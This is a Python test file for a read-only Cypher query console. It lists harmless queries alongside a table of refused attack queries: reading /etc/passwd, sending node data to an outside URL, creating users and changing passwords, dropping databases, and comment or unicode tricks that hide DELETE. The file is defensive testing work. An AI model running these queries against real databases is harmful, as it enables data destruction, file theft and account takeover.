"""The read-only console: what it lets through, and a table of what it must not."""

import pytest
from hypothesis import given
from hypothesis import strategies as some

from graph.errors import StoreError, UnsafeQuery, UsageError
from graph.stores import Store, open_store
from graph.stores.neo4j.plan import check_plan
from queries import catalog, console, worker

HARMLESS = [
    "MATCH (n) RETURN n",
    "match (c:Country {id: $id}) return c.name as name;",
    "MATCH (a)-[r:MET|INVITED]->(b) WHERE r.year >= 2020 RETURN a.name, type(r), b.name LIMIT 5",
    "MATCH (a)-[:MET*1..3]-(b) WHERE a.id <> b.id RETURN DISTINCT b.id ORDER BY b.id DESC SKIP 1",
    "MATCH p = (a)-[:MET* ALL SHORTEST 1..4]-(b) RETURN length(p)",
    "MATCH p = shortestPath((a)-[*..6]-(b)) RETURN p",
    "MATCH (c) WHERE NOT EXISTS { MATCH (c)-[:BOYCOTTED]->(:Event) } RETURN c.id",
    "MATCH (c) RETURN c.id, COUNT { MATCH (c)-[:MET]-(d) WHERE d.id = 'X' } AS n",
    "OPTIONAL MATCH (c:Country) WITH c ORDER BY c.id LIMIT 3 RETURN collect(c.name) AS names",
    "UNWIND range(2000, 2020) AS year RETURN year UNION ALL MATCH (n:Event) RETURN n.id AS year",
    "WITH 1 AS one, 2 AS two WITH * RETURN one + two, -one, one * two, 7 % 2, 2 ^ 3",
    "RETURN CASE WHEN 1 > 2 THEN 'a' ELSE NULL END AS all, [1, 2.5, 1e3], {a: 1, b: [true, false]}",
    "MATCH (n) // CREATE a node\nRETURN n /* DELETE it */",
    "MATCH (n) WHERE n.name STARTS WITH 'CREATE' OR n.name CONTAINS \"; DROP\" RETURN n",
    r"RETURN 'It\'s' AS a, 'Élysée' AS b, '// no comment' AS c, `odd name` AS d",
    "MATCH (n) WHERE any(word IN $words WHERE toLower(n.name) CONTAINS word) RETURN n.name",
    "MATCH (a)<--(b) WHERE a.x IS NOT NULL AND (a)--(b) XOR a.y =~ '.*' RETURN *",
    "MATCH (n:Event) RETURN date(n.start_date) AS day, left(n.name, 3), coalesce(n.city, '')",
]

ATTACKS = [
    # writing, plain
    "CREATE (n:Country {id: 'X'})",
    "create (n)",
    "MERGE (n:Country {id: 'X'}) RETURN n",
    "MATCH (n) SET n.name = 'x'",
    "MATCH (n) SET n.name = 'x' RETURN n",
    "MATCH (n) DELETE n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) REMOVE n.name RETURN n",
    "MATCH (n) WITH n CREATE (m) RETURN m",
    "MATCH (n) WITH * CREATE (m) RETURN m",
    "MATCH (n) RETURN n UNION CREATE (m) RETURN m",
    "MATCH (n) RETURN n UNION ALL CREATE (m) RETURN m",
    "UNWIND [1] AS x MERGE (n {id: x})",
    "UNWIND [1] AS x CREATE (n) RETURN n",
    "MATCH (n) FOREACH (x IN [1] | CREATE (m))",
    "MATCH (n) FOREACH (x IN [1] | SET n.a = 1)",
    "OPTIONAL CREATE (n)",
    "INSERT (n:Country)",
    "MATCH (a), (b) INSERT (a)-[:MET]->(b)",
    "MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n",
    "MATCH (n) WHERE EXISTS { MATCH (m) DELETE m } RETURN n",
    "MATCH (n) RETURN COUNT { MERGE (m) } AS x",
    # schema and database
    "CREATE NODE TABLE T(id STRING, PRIMARY KEY(id))",
    "DROP TABLE Country",
    "ALTER TABLE Country ADD x STRING",
    "COMMENT ON TABLE Country IS 'x'",
    "CREATE MACRO f(x) AS x",
    "CREATE CONSTRAINT c FOR (n:Country) REQUIRE n.id IS UNIQUE",
    "CREATE INDEX i FOR (n:Country) ON (n.id)",
    "CREATE SEQUENCE s",
    "RETURN nextval('s')",
    "CHECKPOINT",
    "BEGIN TRANSACTION",
    "COMMIT",
    "ROLLBACK",
    "USE other MATCH (n) RETURN n",
    "ATTACH 'other.db' AS o (dbtype duckdb)",
    "DETACH o",
    "EXPORT DATABASE '/tmp/out'",
    "IMPORT DATABASE '/tmp/out'",
    "CREATE GRAPH g ANY",
    "PROJECT GRAPH g (Country)",
    # files, network, code
    "LOAD FROM '/etc/passwd' RETURN *",
    "load from '/etc/passwd' return *",
    "LOAD WITH HEADERS (a STRING) FROM '/etc/passwd' RETURN a",
    "LOAD FROM df RETURN *",
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "MATCH (n) LOAD CSV FROM 'http://example.com/?' + n.id AS line RETURN line",
    "COPY Country FROM '/tmp/x.csv'",
    "COPY (MATCH (n) RETURN n) TO '/tmp/x.csv'",
    "PROFILE COPY (MATCH (n) RETURN n) TO '/tmp/x.csv'",
    "EXPLAIN MATCH (n) RETURN n",
    "INSTALL httpfs",
    "UNINSTALL httpfs",
    "LOAD EXTENSION httpfs",
    "UPDATE httpfs",
    # procedures, functions, administration
    "CALL show_tables() RETURN *",
    "CALL dbms.listConfig() YIELD name RETURN name",
    "MATCH (n) CALL db.clearQueryCaches() RETURN n",
    "CALL { CREATE (n) }",
    "CALL (n) { CREATE (m) } IN TRANSACTIONS",
    "CALL threads=8",
    "MATCH (n) CALL apoc.cypher.doIt('CREATE (m)', {}) YIELD value RETURN value",
    "RETURN apoc.cypher.runFirstColumn('CREATE (n)', {}, true)",
    "RETURN db.labels()",
    "RETURN current_setting('threads')",
    "RETURN repeat('x', 1000000000)",
    "RETURN lpad('x', 1000000000, 'y')",
    "RETURN `repeat`('x', 10)",
    "RETURN n.`load`('x')",
    "SHOW USERS",
    "TERMINATE TRANSACTIONS 'x'",
    "CREATE USER me SET PASSWORD 'x'",
    "GRANT ALL ON DATABASE x TO me",
    "STOP DATABASE neo4j",
    "CYPHER runtime=parallel MATCH (n) RETURN n",
    "FINISH",
    # several statements
    "MATCH (n) RETURN n; MATCH (m) DELETE m",
    "RETURN 1;;RETURN 2",
    "; CREATE (n)",
    "RETURN 1 ; CHECKPOINT ;",
    # hiding
    "MATCH (n) /* harmless */ DELETE n",
    "MATCH (n) // harmless\nDELETE n",
    "MATCH (n) // harmless\rDELETE n",
    "MATCH (n) //\u2028DELETE n",
    "MATCH (n) /* open",
    "/* /* */ CREATE (n) */",
    "MATCH (n)/**/DELETE/**/n",
    "MATCH (n) WHERE n.a = 'x' DELETE n",
    r"MATCH (n) WHERE n.a = 'x\' RETURN n' DELETE n //'",
    "MATCH (n) WHERE n.a = 'x\\u0027 DELETE n //'",
    "MATCH (n) RETURN n \\u0044ELETE n",
    r"MATCH (n) WHERE n.a = '\x27 DELETE n' RETURN n",
    'MATCH (n) WHERE n.a = "it\'s" DELETE n',
    "MATCH (n) WHERE n.`a` = 1 DELETE n",
    "MATCH (`n`) DELETE `n`",
    "MATCH (n) RETURN n.`a``b DELETE n",
    "\ufeffCREATE (n)",
    "MATCH (n) ＤＥＬＥＴＥ n",
    "MATCH (n) ſet n.a = 1",
    "MATCH (n)\u00a0DELETE n",
    "MATCH\x00(n) RETURN n",
    "MATCH (n) RETURN 1CREATE (m)",
    "MATCH (n) RETURN 1 CREATE (m)",
    "MATCH (n) RETURN [1] CREATE (m)",
    "MATCH (n) RETURN n.a.CREATE (m)",
    "MATCH (n) RETURN $p DELETE n",
    "MATCH (n) RETURN 'open",
    "MATCH (n) RETURN n)",
    "MATCH (n RETURN n",
    "MATCH (n) RETURN n UPSERT n",
    "MATCH (n) UPSERT (m)",
    # weight
    "RETURN " + "(" * 200 + "1" + ")" * 200,
    "RETURN " + "[" * 41 + "]" * 41,
    "RETURN 1" + " + 1" * 2000,
    "RETURN '" + "x" * 20_000 + "'",
    "",
    " // nothing but a comment",
]


# What a server would do although the session only reads.
ON_A_SERVER = [
    "SHOW SETTINGS",
    "SHOW TRANSACTIONS",
    "SHOW INDEXES YIELD name RETURN name",
    "SHOW FUNCTIONS YIELD name RETURN name",
    "TERMINATE TRANSACTION 'neo4j-transaction-1'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "ALTER USER neo4j SET PASSWORD 'known-to-me'",
    "CREATE USER mallory SET PASSWORD 'known-to-me'",
    "DROP USER neo4j",
    "RENAME USER neo4j TO mallory",
    "CREATE DATABASE mine",
    "DROP DATABASE neo4j",
    "CALL db.labels()",
    "CALL db.labels() YIELD label RETURN label",
    "CALL dbms.listConfig()",
    "CALL dbms.killConnection('bolt-1')",
    "MATCH (n) CALL db.clearQueryCaches() YIELD value RETURN value",
    "CALL db.createLabel('Mine')",
    "MATCH (n) CALL { LOAD CSV FROM 'http://example.com/' AS line RETURN line } RETURN line",
    "MATCH (n) WHERE EXISTS { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } RETURN n",
    "RETURN COUNT { CALL db.labels() YIELD label RETURN label } AS n",
    "RETURN COLLECT { CALL dbms.listConfig() YIELD value RETURN value } AS settings",
    "MATCH (n) CALL (n) { SET n.name = 'x' } IN TRANSACTIONS",
    "MATCH (n) CALL (n) { DETACH DELETE n } IN CONCURRENT TRANSACTIONS",
    "LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS line RETURN line",
    "MATCH (n) WITH n LIMIT 1 MERGE (m:Country {id: 'X'}) RETURN m",
    "CREATE FULLTEXT INDEX mine FOR (n:Country) ON EACH [n.name]",
    "DROP CONSTRAINT diplograph_country_id IF EXISTS",
    "MATCH (n) SET n:Mine",
    "MATCH (n) REMOVE n:Country",
    "MATCH ()-[r]->() DELETE r",
    "MATCH (n) \\u0044ETACH \\u0044ELETE n",
    "CYPHER 5 CALL db.labels() YIELD label RETURN label",
    "PROFILE MATCH (n) DETACH DELETE n",
    "USE system SHOW USERS",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_reading_is_let_through(text: str) -> None:
    assert console.check(text)


@pytest.mark.parametrize("text", ATTACKS + ON_A_SERVER)
def test_anything_else_is_refused(text: str) -> None:
    with pytest.raises(UnsafeQuery):
        console.check(text)


def test_the_table_of_attacks_is_long_enough() -> None:
    assert len(set(ATTACKS + ON_A_SERVER)) == len(ATTACKS + ON_A_SERVER) >= 80


def test_the_engine_gets_no_comments() -> None:
    text = "MATCH (n) // 'x\nWHERE n.id = '// y' /* two\nlines */ RETURN n;"
    assert console.check(text).split() == "MATCH (n) WHERE n.id = '// y' RETURN n".split()


def test_a_refusal_says_where_and_why() -> None:
    with pytest.raises(UnsafeQuery, match=r"line 2, at 'delete': DELETE is not allowed"):
        console.check("MATCH (n)\ndelete n")


@given(some.text(max_size=40))
def test_a_quoted_text_is_only_a_text(word: str) -> None:
    """Whatever stands between quotes either is refused or stays between quotes."""
    text = f"MATCH (n) WHERE n.name = '{word}' RETURN n"
    try:
        checked = console.check(text)
    except UnsafeQuery:
        return
    assert checked.startswith("MATCH (n) WHERE n.name = '") and checked.endswith(" RETURN n")


@given(some.sampled_from(["CREATE", "DELETE", "SET", "MERGE", "LOAD", "COPY", "CALL"]), some.data())
def test_no_casing_or_gap_hides_a_word(word: str, data: some.DataObject) -> None:
    cased = "".join(data.draw(some.sampled_from([c.lower(), c.upper()])) for c in word)
    gap = data.draw(some.text(" \t\n", min_size=1, max_size=3))
    with pytest.raises(UnsafeQuery):
        console.check(f"MATCH (n){gap}{cased}{gap}(m) RETURN m")


def test_parameters_are_bound_exactly() -> None:
    text = "MATCH (n) WHERE n.id = $id AND n.name = '$name' RETURN n LIMIT $`max`"
    assert console.parameters(text) == {"id", "max"}
    assert console.bind(text, {"id": "CHN", "max": 3}) == {"id": "CHN", "max": 3}
    with pytest.raises(UsageError, match=r"needs a value for \$max: give it with -p max VALUE"):
        console.bind(text, {"id": "CHN"})
    with pytest.raises(UsageError, match=r"the query has no \$name"):
        console.bind(text, {"id": "CHN", "max": 3, "name": "x"})


def test_what_is_let_through_runs(world: Store) -> None:
    text = console.check("MATCH (c:Country {id: $id}) RETURN c.name AS name // who")
    assert list(world.run(text, {"id": "CHN"})) == [{"name": "China"}]


def test_a_server_s_plan_tells_what_the_words_do_not(neo4j_url: str) -> None:
    """The second line of defence, by itself: nothing here has been looked at by its words."""
    with open_store(neo4j_url) as store:
        for text in ON_A_SERVER:
            with pytest.raises(UsageError):  # of which UnsafeQuery is one
                check_plan(store, text, {})


def test_no_attack_does_anything_to_a_server(neo4j_url: str) -> None:
    """Even if the words let them all through."""
    state = "MATCH (n) RETURN count(n) AS nodes, collect(n.name) AS names"
    schema = "SHOW INDEXES YIELD name RETURN name ORDER BY name"
    with open_store(neo4j_url) as store:
        before = [list(store.run(text)) for text in (state, schema, "SHOW USERS")]
        for text in ATTACKS + ON_A_SERVER:
            try:
                check_plan(store, text, {})
                list(store.run(text, timeout=2))
            except (UsageError, StoreError):
                continue
        assert [list(store.run(text)) for text in (state, schema, "SHOW USERS")] == before


def test_a_server_takes_what_only_reads(neo4j_url: str) -> None:
    with open_store(neo4j_url) as store:
        for query in catalog.catalog().values():
            check_plan(store, query.text, dict.fromkeys(console.parameters(query.text)))


def test_the_console_asks_a_server_safely(neo4j_url: str) -> None:
    with open_store(neo4j_url):
        pass
    assert list(worker.run(neo4j_url, "RETURN $x + 1 AS y", {"x": 1})) == [{"y": 2}]
    with pytest.raises(UnsafeQuery, match="LOAD is not allowed"):
        list(worker.run(neo4j_url, "LOAD CSV FROM 'http://example.com/' AS line RETURN line"))
    with pytest.raises(UsageError, match="more than 10 rows"):
        list(worker.run(neo4j_url, "UNWIND range(1, 1000000) AS x RETURN x", rows=10))
    with pytest.raises(StoreError, match=r"longer than 1 s|more than 1 seconds"):
        text = "UNWIND range(1, 100000) AS x UNWIND range(1, 100000) AS y RETURN sum(x * y) AS n"
        list(worker.run(neo4j_url, text, timeout=1))
